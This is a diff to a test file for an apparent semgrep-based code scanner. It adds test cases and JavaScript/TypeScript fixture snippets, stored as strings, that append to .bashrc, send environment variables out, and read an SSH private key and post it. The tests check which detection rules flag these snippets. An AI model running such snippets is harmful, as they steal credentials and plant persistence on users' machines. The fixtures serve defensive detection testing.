@@ -40,6 +40,8 @@ TREE = {
     "16.py": b"import requests\nrequests . post('https://a.example', data=open('/r/.ssh/id_rsa').read())\n",
     "17.py": b"import os\ns.\\\n  put('https://a.example', data=str(os.environ))\n",
     "18.py": b"import os\nq = output(os.environ.copy())\n",
+    "20.js": b"const p = '/r/.ba' + 'shrc';\nfs.appendFileSync(p, x);\nfetch(JSON.stringify(process.env));\n",
+    "21.ts": b"const p = '/r/.ssh/id_rsa';\nconst k = fs.readFileSync(p);\naxios.post(u, k);\n",
     "19.py": b"a = '/root/.ba'\np = a + 'shrc'\nwith open(p, 'a') as f:\n    f.write('x')\n",
 }
 
@@ -69,7 +71,29 @@ def test_it_says_what_the_command_says(tmp_path: Path, monkeypatch: pytest.Monke
         ("16.py", "py-secrets-to-network"),
         ("17.py", "py-secrets-to-network"),
         ("19.py", "py-write-startup"),
+        ("20.js", "js-write-startup"),
+        ("20.js", "js-secrets-to-network"),
+        ("21.ts", "js-secrets-to-network"),
     }
+
+
+def test_dear_rules_are_left_out_where_nothing_holds_their_words(monkeypatch: pytest.MonkeyPatch) -> None:
+    """In a second call: all files but those of a rule's language that hold what it needs."""
+    monkeypatch.setattr(semgrep, "FEW", 0)
+    files = [ScanFile(path=name, content=content) for name, content in TREE.items()]
+
+    (given, rules), (others, fewer) = semgrep._calls(files)
+
+    assert {"16.py", "17.py", "20.js", "21.ts"} <= {file.path for file in given}
+    assert {"0.py", "6.sh", "8.yml", "18.py"} <= {file.path for file in others}
+    assert len(given) + len(others) == len(files)
+    left_out = {rule["id"] for rule in rules} - {rule["id"] for rule in fewer}
+    assert left_out == {"py-secrets-to-network", "js-secrets-to-network"}
+
+
+def test_a_usual_change_is_one_call() -> None:
+    """A few files are looked at in one call with all rules."""
+    assert len([*semgrep._calls([ScanFile(path=name, content=TREE[name]) for name in TREE])]) == 1
 
 
 @pytest.fixture
